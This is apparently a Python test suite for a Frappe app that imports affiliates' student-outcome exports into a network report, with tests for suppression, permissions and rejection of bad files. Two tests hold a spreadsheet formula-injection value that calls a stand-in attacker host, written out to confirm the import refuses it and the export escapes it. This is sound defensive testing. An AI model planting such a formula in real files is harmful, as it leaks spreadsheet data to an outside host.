# Copyright (c) 2026, cis_app contributors and contributors
# For license information, please see license.txt
"""Network Outcome Import and the CIS Outcomes report in network mode, over two affiliates' exports
whose figures are worked out by hand below (small-cell threshold 10).

North (two sites): 28 grade 7 Promoted, 12 Retained, 10 grade 9 Dropped Out, 12 Moved at N1; 20 grade 12
Graduated, 10 Retained and 10 without a year-end status at N2. Affiliate: cohort 102, status missing
10, unknown 12, remained 70 of 80, promoted 28 of 50, graduated 20 of 30; no goals (suppressed).
South (one site): 40 grade 8 Promoted, 10 Retained, 10 grade 10 Dropped Out, 10 Transferred, 10 without
a status, 5 grade 12 Graduated; 20 of the promoted have an attendance goal, 10 Met and 10 Decline.
Affiliate: cohort 85, missing 10, unknown 10, remained 55 of 65, promoted 40 of 60, graduated 5 of 5
(suppressed), attendance 10 of 20.
Network: cohort 187, missing 20, unknown 22, remained 125 of 145 (86.2), promoted 68 of 110 (61.8),
graduated North's alone 20 of 30 (66.7, 1 of 2 affiliates), attendance South's alone 10 of 20 (50.0).
"""

import copy
import json

import frappe
import pandas as pd
from frappe.desk.query_report import run
from frappe.tests.utils import FrappeTestCase

from cis_app.core import network_rollup
from cis_app.core.outcomes import outcome_metrics, suppress_outcomes
from cis_app.cis_network.outcome_export import OutcomeExportError
from cis_app.permissions.scope import clear_scope_cache
from cis_app.tests.factories import (
	TwoSites,
	make_affiliate,
	make_school_year,
	make_site,
	make_user,
	make_volunteer,
)

REPORT = "CIS Outcomes"
YEAR = ("2020-2021", "2020-08-01", "2021-07-31")
PREVIOUS_YEAR = ("2019-2020", "2019-08-01", "2020-07-31")
STAMP = "2021-08-15T14:03:00+00:00"
THRESHOLD = 10

NORTH = {
	"cohort": (102, None, None),
	"status_missing": (10, None, None),
	"unknown_outcome": (12, None, None),
	"remained_in_school": (70, 80, 87.5),
	"promoted": (28, 50, 56.0),
	"graduated": (20, 30, 66.7),
	"attendance_goals": None,
	"academic_goals": None,
	"behavior_goals": None,
}
SOUTH = {
	"cohort": (85, None, None),
	"status_missing": (10, None, None),
	"unknown_outcome": (10, None, None),
	"remained_in_school": (55, 65, 84.6),
	"promoted": (40, 60, 66.7),
	"graduated": None,
	"attendance_goals": (10, 20, 50.0),
	"academic_goals": None,
	"behavior_goals": None,
}
NETWORK = {
	"cohort": (187, None, None),
	"status_missing": (20, None, None),
	"unknown_outcome": (22, None, None),
	"remained_in_school": (125, 145, 86.2),
	"promoted": (68, 110, 61.8),
	"graduated": (20, 30, 66.7),
	"attendance_goals": (10, 20, 50.0),
	"academic_goals": None,
	"behavior_goals": None,
}
COVERAGE = {
	"cohort": "2 of 2",
	"status_missing": "2 of 2",
	"unknown_outcome": "2 of 2",
	"remained_in_school": "2 of 2",
	"promoted": "2 of 2",
	"graduated": "1 of 2",
	"attendance_goals": "1 of 2",
	"academic_goals": "0 of 2",
	"behavior_goals": "0 of 2",
}


def students(prefix, site, grade, status, count):
	return [(f"{prefix}{site}{grade}{status}{n}", site, grade, status) for n in range(count)]


def north_frame(extra_promoted: int = 0):
	rows = (
		students("n", "N1", "7", "Promoted", 28 + extra_promoted)
		+ students("n", "N1", "7", "Retained", 12)
		+ students("n", "N1", "9", "Dropped Out", 10)
		+ students("n", "N1", "7", "Moved", 12)
		+ students("n", "N2", "12", "Graduated", 20)
		+ students("n", "N2", "12", "Retained", 10)
		+ students("n", "N2", "12", None, 10)
	)
	return pd.DataFrame(rows, columns=["student", "site", "grade_level", "year_end_status"]), None


def south_frame():
	rows = (
		students("s", "S1", "8", "Promoted", 40)
		+ students("s", "S1", "8", "Retained", 10)
		+ students("s", "S1", "10", "Dropped Out", 10)
		+ students("s", "S1", "8", "Transferred", 10)
		+ students("s", "S1", "8", None, 10)
		+ students("s", "S1", "12", "Graduated", 5)
	)
	cohort = pd.DataFrame(rows, columns=["student", "site", "grade_level", "year_end_status"])
	promoted = [row[0] for row in rows if row[3] == "Promoted"][:20]
	goals = pd.DataFrame(
		[(student, "Attendance", "Met" if n < 10 else "Decline") for n, student in enumerate(promoted)],
		columns=["student", "area", "progress_status"],
	)
	return cohort, goals


def export_of(affiliate, name, frame, year=YEAR[0]):
	cohort, goals = frame
	metrics = suppress_outcomes(outcome_metrics(cohort, goals, group_by="site"), THRESHOLD)
	return network_rollup.build_export(affiliate, name, year, STAMP, THRESHOLD, metrics, {"promoted": 85.0})


def figures(rows, group):
	return {
		row["metric"]: None if row["suppressed"] else (row["numerator"], row["denominator"], row["percent"])
		for row in rows
		if row["group"] == group
	}


class TestNetworkOutcomeImport(FrappeTestCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		cls.net = TwoSites.build()
		# the affiliates whose files are imported, with their sites, as this site knows them; the
		# affiliate's CIS Administrator serves both (a file names only what is known here)
		for affiliate, sites in (("CIS North", ("N1", "N2")), ("CIS South", ("S1",))):
			make_affiliate(affiliate, staff=[(cls.net.admin, "CIS Administrator")])
			for site in sites:
				make_site(site, affiliate, None)
		cls.year = make_school_year(*YEAR)
		cls.previous_year = make_school_year(*PREVIOUS_YEAR)
		frappe.db.set_single_value("CIS Settings", "small_cell_threshold", THRESHOLD)
		frappe.clear_document_cache("CIS Settings", "CIS Settings")
		frappe.db.delete("Network Outcome")
		cls.north = export_of("CIS North", "CIS North", north_frame())
		cls.south = export_of("CIS South", "CIS South", south_frame())
		cls.volunteer = make_volunteer("cis-network-vol@example.com", [cls.net.site_a]).user
		clear_scope_cache()

	@classmethod
	def tearDownClass(cls):
		super().tearDownClass()
		frappe.clear_document_cache("CIS Settings", "CIS Settings")

	def setUp(self):
		frappe.db.delete("Network Outcome")  # each test starts from an empty roll-up

	def tearDown(self):
		frappe.set_user("Administrator")
		clear_scope_cache()

	# ------------------------------------------------------------------ helpers

	def attach(self, content: str | bytes, file_name: str, user: str | None = None) -> str:
		frappe.set_user(user or self.net.admin)
		try:
			doc = frappe.get_doc(
				{"doctype": "File", "file_name": file_name, "content": content, "is_private": 1}
			).insert()
		finally:
			frappe.set_user("Administrator")
		return doc.file_url

	def import_files(self, *files, user: str | None = None, submit: bool = True):
		"""A Network Outcome Import of ``files`` ((content, file name) pairs), saved and submitted as
		``user`` (the affiliate's CIS Administrator by default)."""
		user = user or self.net.admin
		urls = [self.attach(content, file_name, user) for content, file_name in files]
		frappe.set_user(user)
		try:
			doc = frappe.get_doc(
				{
					"doctype": "Network Outcome Import",
					"title": "Test round",
					"files": [{"export_file": url} for url in urls],
				}
			).insert()
			if submit:
				doc.submit()
			return doc
		finally:
			frappe.set_user("Administrator")

	def stored(self) -> list[dict]:
		return frappe.get_all(
			"Network Outcome",
			fields=[
				"affiliate",
				"school_year",
				"level",
				"site",
				"metric",
				"numerator",
				"suppressed",
				"network_outcome_import",
			],
		)

	def network(self, user: str | None = None, **filters) -> dict:
		user = user or self.net.evaluator
		clear_scope_cache()
		frappe.set_user(user)
		try:
			return run(
				REPORT,
				{"school_year": self.year, "network_mode": 1, "group_by": "Affiliate", **filters},
				user=user,
			)
		finally:
			frappe.set_user("Administrator")

	def assertRefused(self, *files, reason: str):
		before = (len(self.stored()), frappe.db.count("Network Outcome Import"))
		with self.assertRaises(OutcomeExportError) as caught:
			self.import_files(*files)
		self.assertIn(reason, str(caught.exception))
		self.assertEqual((len(self.stored()), frappe.db.count("Network Outcome Import")), before)

	# ------------------------------------------------------------------ import and roll-up

	def test_import_two_affiliates_then_the_network_report(self):
		doc = self.import_files(
			(network_rollup.to_json(self.north), "north.json"),
			(network_rollup.to_csv(self.south), "south.csv"),
		)
		rows = self.stored()
		# north: affiliate + 2 sites; south: affiliate + 1 site; 9 metrics each
		self.assertEqual(len(rows), 9 * 3 + 9 * 2)
		self.assertEqual(doc.imported_rows, 45)
		self.assertEqual({row.network_outcome_import for row in rows}, {doc.name})
		self.assertEqual(
			[(f.affiliate, f.school_year, f.file_format, f.row_count) for f in doc.files],
			[("CIS North", self.year, "JSON", 27), ("CIS South", self.year, "CSV", 18)],
		)
		self.assertEqual(sorted({row.site for row in rows if row.level == "Site"}), ["N1", "N2", "S1"])
		# a suppressed cell is stored as suppressed, with no figure read from it
		graduated = next(
			r
			for r in rows
			if r.affiliate == "CIS South" and r.level == "Affiliate" and r.metric == "graduated"
		)
		self.assertEqual((graduated.suppressed, graduated.numerator), (1, 0))

		result = self.network()
		report_rows = result["result"]
		self.assertEqual(figures(report_rows, "Network total"), NETWORK)
		self.assertEqual(figures(report_rows, "CIS North"), NORTH)
		self.assertEqual(figures(report_rows, "CIS South"), SOUTH)
		self.assertEqual({row["metric"]: row["coverage"] for row in report_rows if row["is_total"]}, COVERAGE)
		self.assertEqual(len(report_rows), 27)
		self.assertEqual(
			[row["group"] for row in report_rows[:3]], ["Network total", "CIS North", "CIS South"]
		)
		fieldnames = [column["fieldname"] for column in result["columns"]]
		for fieldname in (
			"metric",
			"metric_label",
			"group",
			"numerator",
			"denominator",
			"percent",
			"target",
			"suppressed",
		):
			self.assertIn(fieldname, fieldnames)
		self.assertEqual(
			next(c for c in result["columns"] if c["fieldname"] == "group")["label"], "Affiliate"
		)
		self.assertIn("Network mode", result["message"])
		# the chart draws only rates shown in the network total; the summary leaves suppressed ones out
		self.assertEqual(result["chart"]["data"]["datasets"][0]["values"], [86.2, 61.8, 66.7, 50.0])
		self.assertEqual(
			sorted(item["value"] for item in result["report_summary"]), [50.0, 61.8, 66.7, 86.2, 187]
		)
		for row in report_rows:
			if row["suppressed"]:
				self.assertEqual((row["numerator"], row["denominator"], row["percent"]), (None, None, None))
		# without grouping: the network totals only; one affiliate by its id
		totals = self.network(group_by="None")["result"]
		self.assertEqual(figures(totals, "Network total"), NETWORK)
		self.assertEqual(len(totals), 9)
		south = self.network(affiliate="CIS South")["result"]
		self.assertEqual(figures(south, "Network total")["attendance_goals"], (10, 20, 50.0))
		self.assertEqual(figures(south, "Network total")["promoted"], (40, 60, 66.7))

	def test_the_network_level_suppresses_again_at_this_sites_threshold(self):
		self.import_files(
			(network_rollup.to_json(self.north), "north.json"),
			(network_rollup.to_json(self.south), "south.json"),
		)
		frappe.db.set_single_value("CIS Settings", "small_cell_threshold", 11)
		frappe.clear_document_cache("CIS Settings", "CIS Settings")
		try:
			rows = self.network()["result"]
		finally:
			frappe.db.set_single_value("CIS Settings", "small_cell_threshold", THRESHOLD)
			frappe.clear_document_cache("CIS Settings", "CIS Settings")
		south = figures(rows, "CIS South")
		# at 11: South's 10s are small (missing, unknown, and remained's complement 10), promoted 40/60 stays
		self.assertIsNone(south["status_missing"])
		self.assertIsNone(south["unknown_outcome"])
		self.assertIsNone(south["remained_in_school"])
		self.assertIsNone(south["attendance_goals"])
		self.assertEqual(south["promoted"], (40, 60, 66.7))
		self.assertEqual(south["cohort"], (85, None, None))
		network = figures(rows, "Network total")
		self.assertEqual(network["status_missing"], None)  # North's 10 is small at 11 too: nothing known
		self.assertEqual(network["unknown_outcome"], (12, None, None))  # North's alone
		self.assertEqual(network["promoted"], (68, 110, 61.8))

	def test_reimporting_an_affiliates_year_replaces_its_rows(self):
		first = self.import_files(
			(network_rollup.to_json(self.north), "north.json"),
			(network_rollup.to_csv(self.south), "south.csv"),
		)
		north_again = export_of("CIS North", "CIS North", north_frame(extra_promoted=10))
		second = self.import_files((network_rollup.to_json(north_again), "north-corrected.json"))
		rows = self.stored()
		self.assertEqual(len(rows), 45)  # no duplicates
		self.assertEqual(
			{r.network_outcome_import for r in rows if r.affiliate == "CIS North"}, {second.name}
		)
		self.assertEqual({r.network_outcome_import for r in rows if r.affiliate == "CIS South"}, {first.name})
		network = figures(self.network()["result"], "Network total")
		self.assertEqual(network["cohort"], (197, None, None))
		self.assertEqual(network["promoted"], (78, 120, 65.0))
		# cancelling the corrected import takes its rows away; South's stay
		frappe.set_user(self.net.admin)
		try:
			frappe.get_doc("Network Outcome Import", second.name).cancel()
		finally:
			frappe.set_user("Administrator")
		self.assertEqual({r.affiliate for r in self.stored()}, {"CIS South"})
		self.assertEqual(figures(self.network()["result"], "Network total")["cohort"], (85, None, None))
		# another school year of the same affiliate is kept beside it, and Compare Years shows both
		earlier = export_of("CIS North", "CIS North", north_frame(), year=self.previous_year)
		self.import_files((network_rollup.to_json(earlier), "north-2019.json"))
		rows = self.network(compare_years=2)["result"]
		cohort = [
			(row["school_year"], row["group"], row["numerator"]) for row in rows if row["metric"] == "cohort"
		]
		self.assertEqual(
			cohort,
			[
				(self.previous_year, "Network total", 102),
				(self.previous_year, "CIS North", 102),
				(self.year, "Network total", 85),
				(self.year, "CIS South", 85),
			],
		)

	# ------------------------------------------------------------------ refusals: nothing loaded

	def test_malformed_other_version_and_unsuppressed_files_are_refused(self):
		self.import_files((network_rollup.to_json(self.south), "south.json"))
		good = (network_rollup.to_json(self.north), "north.json")
		self.assertRefused(
			good, (b"not an export at all", "garbage.csv"), reason="cannot be read as an Outcome Export"
		)
		self.assertRefused(
			good,
			(b'{"format": "cis-outcome-export", "version": 1, "rows": [', "cut.json"),
			reason="invalid JSON",
		)
		other = copy.deepcopy(self.north)
		other["version"] = 2
		self.assertRefused((json.dumps(other), "v2.json"), reason="version 2 is not supported")
		other = copy.deepcopy(self.north)
		other["format"] = "something-else"
		self.assertRefused((json.dumps(other), "other.json"), reason="This is not an Outcome Export")
		# a small cell shown: South's graduated 5 of 5
		leaky = copy.deepcopy(self.south)
		cell = next(r for r in leaky["rows"] if r["level"] == "affiliate" and r["metric"] == "graduated")
		cell.update(numerator=5, denominator=5, percent=100.0, suppressed=0)
		self.assertRefused(
			good,
			(json.dumps(leaky), "leaky.json"),
			reason="the numerator 5 is below the small-cell threshold 10",
		)
		# a suppressed cell that carries its figure anyway
		leaky = copy.deepcopy(self.south)
		cell = next(r for r in leaky["rows"] if r["level"] == "affiliate" and r["metric"] == "graduated")
		cell["numerator"] = 5
		self.assertRefused((json.dumps(leaky), "leaky.json"), reason="suppressed but carries a number")
		# a student-level field
		extra = copy.deepcopy(self.north)
		extra["rows"][0]["student"] = "nN17Promoted0"
		self.assertRefused(
			(json.dumps(extra), "extra.json"), reason="field student is not part of the Outcome Export format"
		)
		# exported with a threshold below this site's
		low = export_of("cis-low", "CIS Low", north_frame())
		low["small_cell_threshold"] = 5
		self.assertRefused(
			(json.dumps(low), "low.json"), reason="threshold of 5; this site needs at least 10"
		)
		# the same affiliate and year twice in one import
		self.assertRefused(good, good, reason="keep one of them")
		# what was loaded before is untouched
		self.assertEqual({r.affiliate for r in self.stored()}, {"CIS South"})

	def test_a_file_names_only_the_affiliates_own_sites_and_known_codes(self):
		"""Free text in a site's or the affiliate's name would be imported and shown to every affiliate's
		administrator: a file naming anything this site does not know is refused, with its line."""
		self.import_files((network_rollup.to_json(self.south), "south.json"))
		before = self.stored()
		named = copy.deepcopy(self.north)
		for cell in named["rows"]:
			if cell["site"] == "N2":
				cell["site"] = "Jordan Smith 4471 dropped out"
		csv_text = network_rollup.to_csv(named)
		line = next(n for n, text in enumerate(csv_text.splitlines(), start=1) if "Jordan Smith" in text)
		self.assertRefused(
			(csv_text, "north.csv"),
			reason=f"Line {line} (site Jordan Smith 4471 dropped out, cohort): &quot;Jordan Smith 4471 dropped out&quot; is not a site of &quot;CIS North&quot; on this site.",
		)
		self.assertRefused((network_rollup.to_json(named), "north.json"), reason="is not a site of")
		# the other affiliate's site, an affiliate this site does not have, one the user does not serve
		swapped = copy.deepcopy(self.north)
		for cell in swapped["rows"]:
			if cell["site"] == "N2":
				cell["site"] = "S1"
		self.assertRefused((network_rollup.to_json(swapped), "north.json"), reason="is not a site of")
		elsewhere = export_of("CIS Elsewhere", "CIS Elsewhere", south_frame())
		self.assertRefused(
			(network_rollup.to_json(elsewhere), "elsewhere.json"),
			reason="&quot;CIS Elsewhere&quot; is not an affiliate of this site that you may import for",
		)
		make_affiliate("CIS West")
		make_site("S1 West", "CIS West", None)
		west = export_of("CIS West", "CIS West", south_frame())
		for cell in west["rows"]:
			if cell["site"] == "S1":
				cell["site"] = "S1 West"
		self.assertRefused((network_rollup.to_json(west), "west.json"), reason="that you may import for")
		# a formula or any other text for the affiliate's name, an unknown school year
		formula = copy.deepcopy(self.north)
		formula["affiliate"]["name"] = '=HYPERLINK("http://attacker.example/?"&A2,"open")'
		self.assertRefused(
			(network_rollup.to_csv(formula), "north.csv"),
			reason="Line 2: the affiliate&apos;s name &quot;=HYPERLINK(",
		)
		other_year = export_of("CIS North", "CIS North", north_frame(), year="1999-2000 (Jordan Smith)")
		self.assertRefused(
			(network_rollup.to_json(other_year), "north.json"), reason="is not a School Year of this site"
		)
		self.assertEqual(self.stored(), before)
		# Administrator and System Managers import any affiliate of this site
		frappe.set_user("Administrator")
		doc = self.import_files((network_rollup.to_json(west), "west.json"), user="Administrator")
		self.assertEqual(
			{r.site for r in self.stored() if r.network_outcome_import == doc.name}, {"S1 West", None}
		)

	def test_deeply_nested_or_oversize_files_are_a_clear_refusal_not_a_server_error(self):
		from unittest.mock import patch

		from frappe.desk.form.save import savedocs

		from cis_app.cis_network.doctype.network_outcome_import import network_outcome_import

		deep = '{"format": "cis-outcome-export", "rows": ' + "[" * 100_000 + "]" * 100_000 + "}"
		url = self.attach(deep, "deep.json")
		frappe.set_user(self.net.admin)
		try:
			doc = {"doctype": "Network Outcome Import", "title": "Deep", "files": [{"export_file": url}]}
			with self.assertRaises(OutcomeExportError) as caught:
				savedocs(json.dumps(doc), "Save")
			self.assertIn("nested more than 4 levels deep", str(caught.exception))
			url = self.attach(network_rollup.to_json(self.north), "north.json")
			with patch.object(network_outcome_import, "MAX_FILE_SIZE", 1000):
				with self.assertRaises(OutcomeExportError) as caught:
					savedocs(json.dumps({**doc, "files": [{"export_file": url}]}), "Save")
			self.assertIn("is larger than 0 MB", str(caught.exception))
		finally:
			frappe.set_user("Administrator")
		self.assertEqual(frappe.db.count("Network Outcome Import", {"title": "Deep"}), 0)

	def test_the_evaluators_export_escapes_formula_like_names(self):
		import io

		import openpyxl

		from cis_app.cis_case_management.disclosures import export_query_report

		self.import_files((network_rollup.to_json(self.north), "north.json"))
		formula = '=HYPERLINK("http://attacker.example/?"&A2,"open")'
		frappe.db.set_value("Network Outcome", {"affiliate": "CIS North"}, "affiliate_name", formula)
		contents = {}
		frappe.set_user(self.net.evaluator)
		try:
			for file_format in ("CSV", "Excel"):
				frappe.local.form_dict = frappe._dict(
					report_name=REPORT,
					file_format_type=file_format,
					filters=json.dumps(
						{"school_year": self.year, "network_mode": 1, "group_by": "Affiliate"}
					),
					visible_idx="[]",
				)
				export_query_report()
				contents[file_format] = frappe.response["filecontent"]
		finally:
			frappe.set_user("Administrator")
			frappe.local.form_dict = frappe._dict()
		text = contents["CSV"].decode()
		self.assertIn("'" + formula.replace('"', '""'), text)
		self.assertNotIn('"' + formula.replace('"', '""'), text)
		sheet = openpyxl.load_workbook(io.BytesIO(contents["Excel"])).active
		values = [cell.value for row in sheet.iter_rows() for cell in row]
		self.assertIn("'" + formula, values)
		self.assertEqual([c for row in sheet.iter_rows() for c in row if c.data_type == "f"], [])

	def test_files_attached_in_the_sidebar_fill_the_table(self):
		frappe.set_user(self.net.admin)
		try:
			doc = frappe.get_doc({"doctype": "Network Outcome Import", "title": "Sidebar"}).insert()
			with self.assertRaises(OutcomeExportError):
				doc.submit()  # nothing attached yet
			doc.reload()
			for content, file_name in (
				(network_rollup.to_json(self.north), "north.json"),
				(network_rollup.to_csv(self.south), "south.csv"),
			):
				frappe.get_doc(
					{
						"doctype": "File",
						"file_name": file_name,
						"content": content,
						"is_private": 1,
						"attached_to_doctype": "Network Outcome Import",
						"attached_to_name": doc.name,
					}
				).insert()
			doc.save()
			self.assertEqual([(row.idx, row.affiliate, row.row_count) for row in doc.files], [
				(1, "CIS North", 27), (2, "CIS South", 18)
			])  # fmt: skip
			# a file removed from the import leaves the table at the next save
			south = frappe.get_all(
				"File", filters={"attached_to_name": doc.name, "file_name": ["like", "south%"]}, pluck="name"
			)
			frappe.delete_doc("File", south[0])
			doc.save()
			self.assertEqual([row.affiliate for row in doc.files], ["CIS North"])
			doc.submit()
		finally:
			frappe.set_user("Administrator")
		self.assertEqual(
			{(r.affiliate, r.network_outcome_import) for r in self.stored()}, {("CIS North", doc.name)}
		)

	def test_every_refusal_reason_is_translatable(self):
		from cis_app.cis_network.outcome_export import problem_messages

		self.assertEqual(set(problem_messages()), set(network_rollup.MESSAGES))
		for code, template in network_rollup.MESSAGES.items():
			self.assertEqual(problem_messages()[code], template)  # same English source, same placeholders

	# ------------------------------------------------------------------ who may do what

	def test_only_cis_administrators_and_system_managers_import(self):
		for user in (
			self.net.coordinator_a,
			self.net.program_manager,
			self.net.partner_manager,
			self.net.evaluator,
			self.volunteer,
		):
			self.assertFalse(frappe.has_permission("Network Outcome Import", "create", user=user), user)
			self.assertFalse(frappe.has_permission("Network Outcome", "read", user=user), user)
			frappe.set_user(user)
			try:
				with self.assertRaises(frappe.PermissionError):
					frappe.get_list("Network Outcome", limit=1)
			finally:
				frappe.set_user("Administrator")
		with self.assertRaises(frappe.PermissionError):
			self.import_files((network_rollup.to_json(self.north), "north.json"), user=self.net.coordinator_a)
		self.assertTrue(frappe.has_permission("Network Outcome Import", "submit", user=self.net.admin))
		self.assertFalse(frappe.has_permission("Network Outcome", "create", user=self.net.admin))

	def test_network_mode_is_for_evaluators_and_administrators_only(self):
		self.import_files((network_rollup.to_json(self.north), "north.json"))
		system_manager = make_user("cis-network-sysmanager@example.com", "System Manager")
		for user in (self.net.evaluator, self.net.admin, system_manager):
			self.assertEqual(figures(self.network(user)["result"], "CIS North"), NORTH)
		for user in (self.net.coordinator_a, self.net.program_manager, self.net.partner_manager):
			with self.assertRaises(frappe.PermissionError):
				self.network(user)

	def test_network_mode_refuses_filters_it_cannot_apply(self):
		for filters in (
			{"site": self.net.site_a},
			{"grade_from": "7"},
			{"group_by": "Site"},
			{"school_district": self.net.district},
		):
			with self.assertRaises(frappe.ValidationError):
				self.network(**filters)
		empty = self.network(school_year=self.previous_year)
		self.assertEqual(empty["result"], [])
		self.assertIn("No Outcome Export of", empty["message"])
